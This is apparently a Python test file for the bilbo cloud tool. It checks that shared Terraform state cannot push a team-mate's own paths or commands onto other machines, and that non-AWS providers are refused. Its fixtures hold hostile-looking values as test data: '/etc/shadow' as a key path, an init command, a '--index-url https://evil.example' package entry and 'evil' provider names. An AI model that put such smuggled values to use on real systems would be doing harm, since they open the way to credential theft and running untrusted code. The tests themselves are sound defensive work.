"""Whoever writes the shared state does not command team-mates' machines."""

from __future__ import annotations

from typing import Any

import pytest

from bilbo.cluster.host_settings import taken
from bilbo.cluster.shared_state import admitted
from bilbo.errors import RecordError
from bilbo.profile.checking import schema

INSTANCE = {"ami": "ami-1", "ec2type": "t3.micro", "keyname": "k", "ssh_user": "u"}
OWN = {
    "webbrowser": "/tmp/evil",
    "ssh_private_key": "/etc/shadow",
    "init_cmd": ["touch /tmp/evil"],
    "packages": ["--index-url https://evil.example"],
}


@pytest.mark.parametrize(
    "place",
    [
        (),
        ("instance",),
        ("notebook",),
        ("notebook", "instance"),
        ("dask",),
        ("dask", "scheduler"),
        ("dask", "scheduler", "instance"),
        ("dask", "worker"),
        ("dask", "worker", "instance"),
        ("ray", "head", "instance"),
    ],
)
def test_what_is_a_persons_own_is_not_taken(place: tuple[str, ...]) -> None:
    """A path or command in a state's outputs is not taken, wherever it stands."""
    document: dict[str, Any] = {"region": "us-east-1", "instance": dict(INSTANCE)}
    part = document
    for step in place:
        part = part.setdefault(step, {})
    part.update(OWN)
    found = taken(document)
    assert not OWN.keys() & {*keys(found)}
    assert found["instance"] == INSTANCE


def keys(value: Any) -> list[str]:
    """Every key at any depth."""
    if isinstance(value, list):
        return [key for item in value for key in keys(item)]
    if not isinstance(value, dict):
        return []
    return [*value, *(key for item in value.values() for key in keys(item))]


def test_an_honest_profile_is_taken_whole() -> None:
    """The list of what is taken has every key of the schema that is not a person's own."""
    document = {
        "description": "d",
        "region": "us-east-1",
        "access": {"cidrs": ["10.0.0.0/8"], "public": False},
        "instance": {**INSTANCE, "tags": {"a": "b"}, "vol_size": 10, "subnet": "subnet-1"},
        "notebook": {"instance": {"ec2type": "m5.large"}},
        "dask": {"scheduler": {}, "worker": [{"name": "a", "count": 2, "nproc": 1, "nthread": 2}]},
    }
    assert taken(document) == document
    groups = schema()["$defs"]
    known = {key for name in groups if "worker" in name for key in groups[name]["properties"]}
    known -= {"args"}  # they could have a team-mate's workers load anything
    worker: dict[str, Any] = {**dict.fromkeys(known, 1), "instance": {}}
    assert taken({"ray": {"worker": worker}}) == {"ray": {"worker": worker}}


@pytest.mark.parametrize("document", [None, [], "x", 3, True])
def test_what_is_no_profile(document: Any) -> None:
    """A state's outputs may be anything."""
    with pytest.raises(RecordError, match="bilbo did not write the profile"):
        taken(document)


@pytest.mark.parametrize(
    ("resources", "said"),
    [
        ([{"provider": 'provider["evil/evil"]'}], "evil/evil"),
        ([{"provider": 'module.x.provider["registry.terraform.io/evil/aws"].a'}], "evil/aws"),
        ([{"provider": 7}], "'?7"),
        ([{}], "nameless|None"),
        ([[]], "nameless"),
        ("x", "not a list"),
    ],
)
def test_a_provider_that_is_not_awss(resources: Any, said: str) -> None:
    """Terraform would install and run it: the state is refused before `init`."""
    with pytest.raises(RecordError, match=said):
        admitted({"resources": resources}, "s3://team/x")


def test_the_providers_that_bilbo_uses() -> None:
    """AWS's of either registry, and the builtin one."""
    names = (
        "registry.terraform.io/hashicorp/aws",
        "registry.opentofu.org/hashicorp/aws",
        "terraform.io/builtin/terraform",
    )
    state = {"resources": [{"provider": f'provider["{name}"]'} for name in names]}
    assert admitted(state, "") is state
    assert admitted({}, "") == {}
